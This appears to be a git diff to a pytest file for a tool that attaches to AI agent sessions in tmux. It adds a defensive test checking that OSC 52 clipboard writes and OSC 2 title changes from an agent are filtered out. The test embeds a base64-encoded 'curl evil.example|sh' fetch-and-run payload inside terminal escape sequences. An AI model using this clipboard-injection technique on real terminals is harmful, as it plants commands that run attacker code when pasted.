@@ -11,25 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from clauderon_tui.attach import QueryFilter, prefix_byte
+from clauderon_tui.attach import prefix_byte
 from runtime.errors import ClauderonError
 from tests.cli_harness import Cli
 
 pytestmark = pytest.mark.timeout(180)
-
-
-@pytest.mark.parametrize("chunks, expected", [
-    ([b"a\x1b[6nb"], b"ab"),
-    ([b"a\x1b[", b"6nb"], b"ab"),
-    ([b"x\x1b", b"[c", b"y"], b"xy"),
-    ([b"\x1b[>c\x1b[0c\x1b[5n"], b""),
-    ([b"\x1b[31mred\x1b[0m"], b"\x1b[31mred\x1b[0m"),
-    ([b"\x1b[2", b"J"], b"\x1b[2J"),
-])
-def test_query_filter_drops_answered_queries_even_when_split(chunks: list[bytes], expected: bytes) -> None:
-    drop = QueryFilter()
-    out = b"".join(drop(c) for c in chunks) + drop(b"")
-    assert out == expected
 
 
 def test_prefix_byte() -> None:
@@ -79,4 +65,38 @@ def test_attach_types_sees_output_and_detaches(short_tmp: Path, git_repo: Path) 
     finally:
         subprocess.run(["tmux", "-L", sock, "kill-server"], capture_output=True)
         cli("delete", "att", "--force", check=False)
+        cli.cleanup()
+
+
+def test_an_agent_cannot_write_the_clipboard_or_rename_the_window_through_attach(short_tmp: Path,
+                                                                                    git_repo: Path) -> None:
+    """tmux with `set-clipboard on` turns OSC 52 into a paste buffer (as iTerm2, kitty and WezTerm write the
+    system clipboard), and with titles allowed OSC 2 renames the pane: the filter must stop both."""
+    cli = Cli(short_tmp / "home", image="unused")
+    (cli.home / "config.toml").write_text('[session]\nbackend = "local"\n[engine]\non_exit = "stop"\n')
+    sock = f"cl-attach-{uuid.uuid4().hex[:8]}"
+    try:
+        cli("create", "--repo", str(git_repo), "--name", "esc", "--backend", "local")
+        command = " ".join(shlex.quote(p) for p in [sys.executable, "-m", "clauderon_tui.cli", "attach", "esc"])
+        env = f"CLAUDERON_HOME={shlex.quote(str(cli.home))} TERM=xterm-256color"
+        _tmux(sock, "new-session", "-d", "-s", "a", "-x", "100", "-y", "30", f"env {env} {command}; sleep 30")
+        _tmux(sock, "set", "-g", "set-clipboard", "on")
+        _tmux(sock, "set", "-g", "allow-rename", "on")
+        _tmux(sock, "set", "-g", "allow-passthrough", "on")
+        _wait_pane(sock, "worktrees/esc")
+        payload = "Y3VybCBldmlsLmV4YW1wbGV8c2g="  # base64 of `curl evil.example|sh`
+        script = (rf"printf '\033]52;c;{payload}\007'; printf '\033]2;pwned-title\007'; "
+                  rf"printf '\033Ptmux;\033\033]52;c;{payload}\007\033\\'; echo escapes-sent")
+        _tmux(sock, "send-keys", "-t", "a", "-l", script)
+        _tmux(sock, "send-keys", "-t", "a", "Enter")
+        _wait_pane(sock, "escapes-sent")
+        time.sleep(0.5)  # let tmux act on anything that did come through
+        buffers = subprocess.run(["tmux", "-L", sock, "list-buffers", "-F", "#{buffer_sample}"],
+                                 capture_output=True, text=True).stdout
+        assert "curl" not in buffers, buffers
+        title = _tmux(sock, "display-message", "-p", "-t", "a", "#{pane_title}").strip()
+        assert title != "pwned-title", title  # at most the prefixed, sanitized `clauderon: pwned-title`
+    finally:
+        subprocess.run(["tmux", "-L", sock, "kill-server"], capture_output=True)
+        cli("delete", "esc", "--force", check=False)
         cli.cleanup()
